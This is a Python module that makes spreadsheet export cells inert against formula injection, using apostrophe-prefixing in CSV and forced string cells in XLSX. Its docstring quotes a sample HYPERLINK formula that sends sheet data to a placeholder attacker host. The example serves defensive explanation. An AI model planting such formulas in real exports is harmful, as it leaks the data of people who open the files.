"""Cells of every CSV and XLSX file the platform writes (exports, compiled reports), made inert.

A text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a CR is read as a formula by Excel and
LibreOffice (``=HYPERLINK("http://evil.example/?d="&A3,"Klik")`` sends the sheet's data away on a
click). In CSV such a text gets a leading apostrophe, which spreadsheets show as text; in XLSX it
is written as a string cell, so it shows exactly as recorded. Plain numbers (``+6281…``, ``-5``)
stay as they are. Control characters, which a worksheet cannot hold, are removed.

Reading a file back (the registry's import) removes the apostrophe again: :func:`unquote`."""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, TYPE_STRING

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")


def dangerous(value: str) -> bool:
    return value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)


def csv_cell(value: Any) -> Any:
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return "'" + value if dangerous(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xlsx_append(ws: Any, values: Iterable[Any]) -> None:
    """Appends a row to an openpyxl worksheet (normal or write-only) with text as text."""
    row = []
    texts = []
    for i, v in enumerate(values):
        if isinstance(v, str):
            v = ILLEGAL_CHARACTERS_RE.sub("", v)
            if v.startswith("="):
                texts.append(i)
        row.append(v)
    if not texts:
        ws.append(row)
        return
    if getattr(ws, "_write_only", False) or type(ws).__name__ == "WriteOnlyWorksheet":
        from openpyxl.cell import WriteOnlyCell

        cells = []
        for i, v in enumerate(row):
            c = WriteOnlyCell(ws, value=v)
            if i in texts:
                c.data_type = TYPE_STRING
            cells.append(c)
        ws.append(cells)
        return
    ws.append(row)
    for i in texts:
        ws.cell(row=ws.max_row, column=i + 1).data_type = TYPE_STRING


def unquote(value: Any) -> Any:
    """A cell read back: the apostrophe :func:`csv_cell` put before a formula-like text removed."""
    if isinstance(value, str) and value.startswith("'") and dangerous(value[1:]):
        return value[1:]
    return value
